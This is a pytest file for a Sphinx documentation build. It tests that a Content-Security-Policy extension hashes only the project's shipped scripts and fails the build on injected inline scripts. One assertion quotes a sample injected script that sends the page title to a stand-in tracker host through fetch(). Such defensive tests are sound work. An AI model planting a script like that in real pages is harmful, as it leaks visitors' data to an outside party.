"""The Content-Security-Policy names only the scripts the project ships (issue 25).

It used to hash every inline script it found on a page, so an injected
<script> (raw HTML in a table cell, an inline script in
source/_templates/page.html) ran with 0 violations.  Now the allowed
scripts are named in book_csp.SHIPPED_SCRIPTS, their hashes recomputed from
the files they come from; any other inline script fails the build.  Fast:
tiny furo sites built with sphinx.testing.
"""

from __future__ import annotations

import re
import sys
from pathlib import Path

import pytest
from conftest import ROOT
from sphinx.util.console import strip_escape_sequences

sys.path.insert(0, str(ROOT / "tools" / "extensions"))
import book_csp  # noqa: E402


@pytest.mark.sphinx("html", testroot="csp", freshenv=True)
def test_an_inline_script_the_project_does_not_ship_fails_the_build(app):
    app.build()
    warnings = strip_escape_sequences(app.warning.getvalue())
    page = Path(app.outdir) / "index.html"
    assert (f"{page}:1: WARNING: an inline script the project does not ship "
            "('fetch(\"https://tracker.example/?\" + document.title)'): raw HTML or a template added it") in warnings
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', page.read_text()).group(1)
    assert set(re.findall(r"'sha256-[^']+'", policy)) <= set(book_csp.shipped_hashes())  # not hashed


@pytest.mark.sphinx("html", testroot="csp-clean", freshenv=True)
def test_the_policy_names_exactly_the_shipped_scripts(app):
    app.build()
    page = (Path(app.outdir) / "index.html").read_text()
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', page).group(1)
    hashes = re.findall(r"'sha256-[^']+'", policy)
    assert hashes and set(hashes) <= set(book_csp.shipped_hashes()), policy
    assert "unsafe-inline" not in policy.split("script-src")[1].split(";")[0]


def test_the_shipped_hashes_come_from_the_theme_file_itself():
    """Recomputed from furo's template: no hash written by hand."""
    furo_script = 'document.body.dataset.theme = localStorage.getItem("theme") || "auto";'
    assert any(book_csp.csp_hash(code) in book_csp.shipped_hashes()
               for code in book_csp.inline_scripts(Path(__import__("furo").__file__).parent.joinpath(
                   "theme/furo/base.html").read_text()) if furo_script in code)
